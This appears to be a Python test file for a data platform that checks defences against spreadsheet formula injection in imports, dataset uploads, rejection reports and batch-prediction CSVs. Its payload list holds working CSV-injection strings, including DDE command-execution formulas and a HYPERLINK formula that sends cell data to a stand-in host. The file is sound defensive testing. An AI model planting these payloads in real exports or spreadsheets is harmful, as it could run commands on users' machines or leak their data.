"""Formula injection (OWASP "CSV injection"): one rule on every import, every dataset upload, every CSV written.

The issue's payloads were stored as they came, and batch-prediction files echoed them back to whoever
opens them in a spreadsheet. A numeric field with a leading minus is a number (a return), not a formula.
"""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import fsspec
import pandas as pd
import pytest

from support import wait_for_job
from tendero.data.demo import route_costs
from tendero.data.formulas import is_formula, neutralised, write_csv
from tendero.data.imports import import_file, import_records
from tendero.store import commerce
from tendero.store import datasets as dataset_rows
from tendero.store.db import session_scope

PAYLOADS = [
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '＝HYPERLINK("http://evil.example/?d="&A1,"ver")',
    '=HYPERLINK("http://evil.example/?d="&A1,"ver")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＋1+cmd|' /C calc'!A0",
    "－2+cmd|' /C calc'!A0",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
NOT_FORMULAS = ["-5", "+34 600 123 456", "-1.234,50", "José", "-", "12%", "ana@tienda.es", "1e-3", "-3%"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_payload_of_the_issue_is_a_formula(text):
    assert is_formula(text)


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_numbers_and_plain_text_are_not(text):
    assert not is_formula(text)


def test_imports_reject_formulas_in_text_and_attributes_but_keep_negative_numbers(tmp_path: Path, tenant):
    rows = [{"product_id": f"F{i}", "name": payload, "price": "1.5"} for i, payload in enumerate(PAYLOADS)]
    rows.append({"product_id": "OK1", "name": "José's -5 pack", "price": "2"})
    rows.append({"product_id": "OK2", "name": "Pan", "price": "2", "telefono": "+34 600 123 456"})
    rows.append({"product_id": "ATTR", "name": "Sal", "price": "1", "telefono": '=WEBSERVICE("http://x")'})
    report = import_records(tenant.id, "products", rows)
    rejected = {r["row"]: r for r in report.rejections}
    assert set(rejected) == {*range(1, len(PAYLOADS) + 1), len(PAYLOADS) + 3}
    for row, payload in enumerate(PAYLOADS, start=1):
        assert rejected[row]["column"] == "name" and "formula" in rejected[row]["reason"]
        assert rejected[row]["value"] == payload  # as the file wrote it
    assert rejected[len(PAYLOADS) + 3]["column"] == "telefono"
    stored = commerce.read_products(tenant.id).set_index("product_id")
    assert sorted(stored.index) == ["OK1", "OK2"]
    lines = "order_id,ordered_at,product_id,quantity,unit_price,customer_id,store\n"
    lines += "R1,2024-01-05,OK1,-2,1.5,C1,Centro\nR2,2024-01-05,OK1,1,1.5,C1,-Norte+cmd|' /C calc'!A0\n"
    path = tmp_path / "returns.csv"
    path.write_text(lines)
    report = import_file(tenant.id, "order_lines", path, returns="keep")
    assert report.counts["inserted"] == 1 and report.rejections[0]["row"] == 3
    assert report.rejections[0]["column"] == "store" and "formula" in report.rejections[0]["reason"]
    orders = commerce.read_order_lines(tenant.id)
    assert orders["quantity"].tolist() == [-2.0]


def test_dataset_uploads_set_formula_cells_missing_and_say_where(client, tenant):
    frame = pd.DataFrame({
        "nota": ["normal", PAYLOADS[0], "bien", PAYLOADS[2], "otra", "y otra"] * 5,
        "ajuste": [-1.5, 2.0, -3.25, 4.0, -5.0, 6.0] * 5,
        "y": list(range(30)),
    })  # fmt: skip
    answer = client.post("/v1/datasets", data={"name": "notas", "task": "regression", "target": "y"},
                         files={"file": ("notas.csv", frame.to_csv(index=False))},
                         headers={**tenant.headers(), "Accept-Language": "en"})  # fmt: skip
    body = answer.json()
    assert body["status"] == "ready", body
    issues = [i for i in body["report"]["issues"] if "formula" in i["message"]]
    assert len(issues) == 10 and {i["column"] for i in issues} == {"nota"}
    assert (issues[0]["row"], issues[0]["value"]) == (2, PAYLOADS[0])
    assert {c["name"]: c["type"] for c in body["schema"]["columns"]}["ajuste"] == "numeric"


def test_the_rejections_report_as_csv_cannot_run_a_formula(client, tenant):
    rows = [{"product_id": f"F{i}", "name": payload} for i, payload in enumerate(PAYLOADS)]
    report = client.post("/v1/data/products", json={"rows": rows}, headers=tenant.headers()).json()
    answer = client.get(f"/v1/data/imports/{report['id']}/rejections.csv",
                        headers={**tenant.headers("analyst"), "Accept-Language": "es"})  # fmt: skip
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(lines) == len(PAYLOADS)
    for line in lines:
        assert not is_formula(line["value"]) and line["value"].startswith("'")
        assert "fórmula" in line["reason"]
    other = client.get(f"/v1/data/imports/{report['id']}/rejections.csv", headers={"Authorization": "Bearer x"})
    assert other.status_code == 401


def test_every_csv_tendero_writes_neutralises_text_and_keeps_numbers():
    frame = pd.DataFrame({"=cmd": PAYLOADS, "n": [-1.5] * len(PAYLOADS), "ok": ["-5"] * len(PAYLOADS)})
    buffer = io.StringIO()
    write_csv(frame, buffer)
    read = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert read[0] == ["'=cmd", "n", "ok"]
    assert all(row[0] == "'" + payload for row, payload in zip(read[1:], PAYLOADS, strict=True))
    assert all(row[1] == "-1.5" and row[2] == "-5" for row in read[1:])
    assert neutralised(frame)["n"].dtype == float


def test_batch_prediction_files_do_not_echo_formulas(client, tenant):
    """A dataset stored before this rule (its cells never checked): the predictions file neutralises them."""
    frame = route_costs(seed=5, rows=120).assign(nota="sin nota", ajuste=-1.25)
    features = "distance_km,stops,load_kg,vehicle,zone,hour,fuel_price"
    made = client.post("/v1/datasets", data={"name": "antiguo", "task": "regression", "target": "cost_eur",
                       "features": features}, files={"file": ("a.csv", frame.to_csv(index=False))},
                       headers=tenant.headers()).json()  # fmt: skip
    assert made["status"] == "ready", made
    with session_scope() as session:
        row = dataset_rows.get_dataset(session, tenant.id, made["id"])
        stored = pd.read_parquet(row.uri)
        stored["nota"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(stored))]
        body = io.BytesIO()
        stored.to_parquet(body, index=False)
        fs, path = fsspec.core.url_to_fs(row.uri)
        fs.pipe_file(path, body.getvalue())
        row.sha256 = hashlib.sha256(body.getvalue()).hexdigest()
    job = client.post("/v1/training-jobs", json={"name": "antiguo", "dataset": made["id"], "deploy": "always",
                      "algorithm": "linear_regression"}, headers=tenant.headers()).json()  # fmt: skip
    assert wait_for_job(client, tenant, job["id"], timeout=240)["status"] == "completed"
    batch = client.post("/v1/models/antiguo/batch-predictions", json={"dataset": made["id"], "format": "csv"},
                        headers=tenant.headers("service")).json()  # fmt: skip
    assert wait_for_job(client, tenant, batch["id"], timeout=120)["status"] == "completed"
    file = client.get(f"/v1/jobs/{batch['id']}/download", headers=tenant.headers("service"))
    lines = list(csv.DictReader(io.StringIO(file.text)))
    assert len(lines) == 120
    assert all(line["nota"].startswith("'") and not is_formula(line["nota"]) for line in lines)
    assert {line["ajuste"] for line in lines} == {"-1.25"}
    assert all(float(line["prediction"]) == float(line["prediction"]) for line in lines)
